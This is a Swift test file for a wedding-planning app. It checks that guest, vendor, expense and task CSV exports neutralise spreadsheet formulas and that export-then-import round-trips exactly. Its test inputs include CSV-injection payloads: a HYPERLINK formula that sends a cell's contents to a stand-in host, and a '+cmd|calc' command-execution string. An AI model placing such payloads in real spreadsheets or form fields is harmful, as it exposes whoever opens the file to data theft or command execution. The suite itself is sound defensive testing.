import BlueprintDomain
@testable import BlueprintInterchange
import Foundation
import Testing

/// CSV written for spreadsheets never hands one a formula (OWASP "CSV Injection", CWE-1236),
/// and importing what was exported gives back exactly what was typed.
@Suite struct FormulaInjectionTests {
    let wedding = testWedding()
    let venue = BudgetCategory(name: "+Venue")
    let hall = Vendor(name: "@Hall", category: .venue)

    /// What strangers type into an RSVP form to attack whoever opens the guest list.
    static let hostile = [
        "=HYPERLINK(\"http://x.example/?a=\"&A1;\"click\")", "+cmd|calc", "@SUM(1+1)", "-2+3", "\tindent", "\rreturn",
        "'=already quoted", "''+twice", "'plain apostrophe", "'", "=", "a=b", "",
    ]

    /// The cells of one exported line (comma-separated, no quoting in these values).
    private func cells(_ data: Data, line: Int) -> [String] {
        let text = String(decoding: data, as: UTF8.self)
        return text.split(separator: "\n", omittingEmptySubsequences: false)[line]
            .split(separator: ",", omittingEmptySubsequences: false).map(String.init)
    }

    /// Whether a spreadsheet would read the cell as a formula.
    private func startsAFormula(_ cell: String) -> Bool {
        var cell = Substring(cell)
        if cell.hasPrefix("\"") { cell = cell.dropFirst() }
        return cell.first.map { "=+-@\t\r".contains($0) } ?? false
    }

    @Test("every cell a spreadsheet would run is prefixed with an apostrophe", arguments: hostile)
    func guestCellsAreNeutralised(text: String) throws {
        let guest = Guest(firstName: text, lastName: "Ng", phone: text, notes: text)
        let text = String(decoding: try CSVExporter(wedding: wedding).guests([guest]), as: UTF8.self)
        let row = try #require(text.split(separator: "\n", maxSplits: 1).last)
        let firstName = row.split(separator: ",", omittingEmptySubsequences: false)[1]
        #expect(!startsAFormula(String(firstName)), "\(row)")
    }

    @Test func theIssuesExamplesAreWrittenAsText() throws {
        let guest = Guest(firstName: Self.hostile[0], lastName: "", phone: "+1 555 0100", notes: "@SUM(1+1)")
        let text = String(decoding: try CSVExporter(wedding: wedding).guests([guest]), as: UTF8.self)
        #expect(text.contains(",\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1;\"\"click\"\")\","))
        #expect(text.contains(",'+1 555 0100,"))
        #expect(text.hasSuffix(",'@SUM(1+1)\n"))
    }

    @Test("export then import gives back every text byte for byte", arguments: hostile)
    func guestsRoundTrip(text: String) throws {
        let guest = Guest(firstName: "G" + text, lastName: text, email: "", phone: text, household: text,
                          relationship: text, dietaryRestrictions: text, notes: text)
        let data = try CSVExporter(wedding: wedding).guests([guest])
        let plan = try CSVImporter(wedding: wedding, mode: .addOnly).planGuests(data, fileName: "guests.csv", existing: [])
        let back = try #require(plan.batch.inserts.first)
        #expect([back.lastName, back.phone, back.household, back.relationship, back.dietaryRestrictions, back.notes]
                == Array(repeating: text, count: 6))
    }

    @Test func vendorsAndExpensesRoundTripWithHostileNames() throws {
        let exporter = CSVExporter(wedding: wedding)
        let vendor = Vendor(name: "=evil()", category: .florist, phone: "+44 20", budgetCategoryID: venue.id, notes: "-x")
        let vendorData = try exporter.vendors([vendor], categories: [venue])
        #expect(cells(vendorData, line: 1).allSatisfy { !startsAFormula($0) }, "\(cells(vendorData, line: 1))")
        let vendors = try CSVImporter(wedding: wedding, mode: .addOnly)
            .planVendors(vendorData, fileName: "vendors.csv", existing: [], categories: [venue])
        #expect(vendors.batch.inserts.map { content($0, id: \.id) } == [content(vendor, id: \.id)])

        let expense = Expense(name: "@fee", categoryID: venue.id, vendorID: hall.id, amount: Money(minorUnits: 100),
                              paymentMethod: "=card", notes: "+1")
        let expenseData = try exporter.expenses([expense], categories: [venue], vendors: [hall])
        #expect(cells(expenseData, line: 1).allSatisfy { !startsAFormula($0) }, "\(cells(expenseData, line: 1))")
        let expenses = try CSVImporter(wedding: wedding, mode: .addOnly).planExpenses(
            expenseData, fileName: "expenses.csv", existing: [], categories: [venue], vendors: [hall])
        #expect(expenses.batch.inserts.map { content($0, id: \.id) } == [content(expense, id: \.id)])
    }

    @Test func taskCellsAreNeutralised() throws {
        let task = WeddingTask(title: "=1+1", details: "@x", assignees: ["-Ana"], vendorID: hall.id, budgetCategoryID: venue.id)
        let data = try CSVExporter(wedding: wedding).tasks([task], categories: [venue], vendors: [hall])
        #expect(cells(data, line: 1) == ["'=1+1", "'@x", "Not started", "Medium", "", "'-Ana", "'@Hall", "'+Venue", ""])
    }

    @Test("--raw writes every cell as stored, for scripts")
    func rawExportLeavesCellsAlone() throws {
        let guest = Guest(firstName: "=1+1", lastName: "Ng", phone: "+1 555", notes: "'=kept")
        let data = try CSVExporter(wedding: wedding, spreadsheetSafe: false).guests([guest])
        #expect(cells(data, line: 1)[1...4] == ["=1+1", "Ng", "", "+1 555"])
        #expect(cells(data, line: 1).last == "'=kept")
    }
}
